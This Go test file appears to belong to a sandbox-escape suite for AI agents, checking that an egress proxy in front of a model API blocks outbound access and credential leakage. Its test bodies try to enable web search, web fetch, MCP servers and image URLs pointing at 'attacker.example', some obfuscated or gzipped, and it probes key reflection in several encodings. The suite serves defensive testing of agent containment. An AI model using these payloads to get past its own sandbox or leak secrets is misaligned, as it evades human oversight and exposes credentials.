package escape

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"

	"github.com/ralph-pool/ralph/sandboxes/egress"
)

// serviceKey is a credential that must stay outside.
const serviceKey = "sk-attack-0123456789abcdefghijklmnopqrstuvwxyz"

func serviceAttacks() []Attack {
	return []Attack{
		{Name: "service/its own tools for reaching the internet", Brief: true, Make: func(s *Suite) {
			var mu sync.Mutex
			var arrived []string
			r, at := s.openServed(func(w http.ResponseWriter, q *http.Request) {
				body, err := io.ReadAll(q.Body)
				if err != nil {
					return // an aborted request does not count
				}
				mu.Lock()
				defer mu.Unlock()
				arrived = append(arrived, string(body))
			})
			if r == nil {
				return
			}
			for _, body := range []string{
				`{"tools":[{"name":"Bash"},{"type":"web_search_20250305","name":"web_search"}]}`,
				`{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
				`{"to\u006fls":[{"type":"web_\u0073earch"}]}`,
				`{"mcp_servers":[{"type":"url","url":"https://attacker.example"}]}`,
				`{"tools":[{"google_search":{}}]}`,
				`{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/secret"}}]}]}`,
			} {
				r.httpRequest(at+"/v1/messages", body, "Content-Type: application/json")
			}
			var packed bytes.Buffer
			zip := gzip.NewWriter(&packed)
			_, _ = zip.Write([]byte(`{"mcp_servers":[{"url":"https://attacker.example"}]}`))
			_ = zip.Close()
			r.httpRequest(at+"/v1/messages", packed.String(), "Content-Type: application/json", "Content-Encoding: gzip")
			mu.Lock()
			defer mu.Unlock()
			for _, body := range arrived {
				for _, word := range []string{"web_", "earch", "mcp_servers", "attacker.example", "\x1f\x8b"} {
					if strings.Contains(body, word) {
						s.Errorf("the service gets %q", body)
						break
					}
				}
			}
			r.Works()
		}},
		{Name: "service/an answer that has the key in it, encoded", Brief: true, Make: func(s *Suite) {
			forms := map[string]string{
				"plain":   serviceKey,
				"base64":  base64.StdEncoding.EncodeToString([]byte(serviceKey)),
				"hex":     hex.EncodeToString([]byte(serviceKey)),
				"percent": strings.ReplaceAll(url.QueryEscape(serviceKey), "k", "%6B"),
				"json":    strings.ReplaceAll(serviceKey, "k", `\u006b`),
			}
			r, at := s.openServed(func(w http.ResponseWriter, q *http.Request) {
				text := []byte("the key is " + forms[q.URL.Query().Get("form")] + ".")
				w.Header().Set("X-Reflected", q.Header.Get("Authorization"))
				if q.URL.Query().Get("form") == "gzip" {
					w.Header().Set("Content-Encoding", "gzip")
					zip := gzip.NewWriter(w)
					_, _ = zip.Write([]byte(q.Header.Get("Authorization")))
					_ = zip.Close()
					return
				}
				_, _ = w.Write(text)
			})
			if r == nil {
				return
			}
			for form, text := range forms {
				if out := r.httpRequest(at+"/v1/models?form="+form, ""); strings.Contains(out, text) || strings.Contains(out, serviceKey) {
					s.Errorf("the key comes back (%s)", form)
				}
			}
			if out := r.httpRequest(at+"/v1/models?form=gzip", ""); strings.Contains(out, serviceKey) {
				s.Errorf("the key comes back (gzip)")
			}
			if out := r.httpRequest(at+"/v1/models?form=plain", "", "Range: bytes=14-"); strings.Contains(out, serviceKey[3:]) {
				s.Errorf("the key comes back (a part of the answer)")
			}
			r.Works()
		}},
	}
}

// openServed opens a sandbox with an endpoint for a model's service, and returns its URL inside. The room is nil if the
// provider does not use ralph's proxy.
func (s *Suite) openServed(answer http.HandlerFunc) (*Room, string) {
	s.Helper()
	server := httptest.NewServer(answer)
	s.Cleanup(server.Close)
	r, proxy := s.openProxied(egress.Config{Endpoints: []egress.Endpoint{{
		Name: "model", Upstream: server.URL, AllowPrivate: true, Model: true,
		Secret: func(context.Context) (string, error) { return serviceKey, nil },
	}}})
	if r == nil {
		return nil, ""
	}
	return r, strings.TrimSuffix(proxy.URL("model"), "/")
}
